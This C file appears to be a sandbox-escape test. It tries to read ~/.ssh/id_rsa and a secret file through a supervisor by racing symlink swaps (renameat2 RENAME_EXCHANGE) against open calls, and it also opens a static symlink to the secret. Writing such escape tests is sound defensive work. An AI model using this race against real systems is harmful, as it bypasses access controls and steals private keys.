/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Attack 4: symlink swap race. Symlinks in the work directory are the
 * attacker's to make (special_create), and their contents are never
 * checked: what counts is where an open through them lands. Three phases:
 *  1. a directory symlink ~/work/swdir flips (renameat2 RENAME_EXCHANGE)
 *     between ~/work/.a/.ssh and ~/.ssh while the main thread opens
 *     ~/work/swdir/id_rsa;
 *  2. a file symlink ~/work/swfile flips between the decoy and the secret
 *     while the main thread opens ~/work/swfile;
 *  3. no race: a symlink ~/work/static-link to the secret, opened once.
 * The supervisor must decide on the object the kernel resolved, never on
 * the name of the link.
 */
#include <pthread.h>

#include "escape-common.h"

struct swapper {
	char a[PATH_MAX], b[PATH_MAX];
	atomic_int stop;
	unsigned long swaps, errors;
};

static void *swap_main(void *p)
{
	struct swapper *s = p;

	while (!atomic_load(&s->stop)) {
		if (syscall(SYS_renameat2, AT_FDCWD, s->a, AT_FDCWD, s->b,
			    RENAME_EXCHANGE) < 0)
			s->errors++;
		else
			s->swaps++;
	}
	return NULL;
}

static void make_link(const char *target, const char *name)
{
	unlink(name);
	if (symlink(target, name) < 0)
		esc_setup_error("symlink %s -> %s: %m", name, target);
}

static void race(const char *label, const char *link, const char *other,
		 const char *open_path, double seconds)
{
	struct swapper s = { 0 };
	unsigned long tries = 0, decoys = 0, errors = 0;
	int before = atomic_load(&esc_escaped);
	pthread_t t;
	double end;

	snprintf(s.a, sizeof(s.a), "%s", link);
	snprintf(s.b, sizeof(s.b), "%s", other);
	if (pthread_create(&t, NULL, swap_main, &s))
		esc_setup_error("pthread_create failed");
	end = esc_now() + seconds;
	while (esc_now() < end && atomic_load(&esc_escaped) == before) {
		char buf[512];
		ssize_t n;
		int fd = open(open_path, O_RDONLY | O_CLOEXEC);

		tries++;
		if (fd < 0) {
			errors++;
			continue;
		}
		n = esc_read_fd(fd, buf, sizeof(buf));
		close(fd);
		if (esc_is_stolen(buf, n))
			esc_leak(label, buf, n);
		else if (n > 0)
			decoys++;
	}
	atomic_store(&s.stop, 1);
	pthread_join(t, NULL);
	esc_say("%s: %lu opens, %lu decoy, %lu refused; %lu swaps (%lu failed)",
		label, tries, decoys, errors, s.swaps, s.errors);
	if (!s.swaps)
		esc_setup_error("%s: the symlinks could not be swapped", label);
	if (decoys)
		esc_control("%s: %lu opens through the link reached the decoy",
			    label, decoys);
}

int main(void)
{
	char swdir[PATH_MAX], swdir2[PATH_MAX], swfile[PATH_MAX],
		swfile2[PATH_MAX], target[PATH_MAX], dpath[PATH_MAX],
		sdir[PATH_MAX], stat_link[PATH_MAX];

	esc_init("symlink-swap", "symlinks in the work directory swapped between the decoy and the secret during open");

	/* 1: a directory in the middle of the path. */
	ESC_FMT(swdir, "%s/swdir", esc_work);
	ESC_FMT(swdir2, "%s/swdir-other", esc_work);
	ESC_FMT(dpath, "%s/.a/.ssh", esc_work);
	ESC_FMT(sdir, "%s/.ssh", esc_home);
	make_link(dpath, swdir);
	make_link(sdir, swdir2);
	ESC_FMT(target, "%s/id_rsa", swdir);
	race("directory symlink race", swdir, swdir2, target, esc_seconds / 2);

	/* 2: the last component. */
	ESC_FMT(swfile, "%s/swfile", esc_work);
	ESC_FMT(swfile2, "%s/swfile-other", esc_work);
	make_link(esc_decoy, swfile);
	make_link(esc_secret, swfile2);
	race("file symlink race", swfile, swfile2, swfile, esc_seconds / 2);

	/* 3: no race at all. */
	ESC_FMT(stat_link, "%s/static-link", esc_work);
	make_link(esc_secret, stat_link);
	esc_try_open("static symlink to the secret", AT_FDCWD, stat_link,
		     O_RDONLY, false);
	return esc_finish();
}
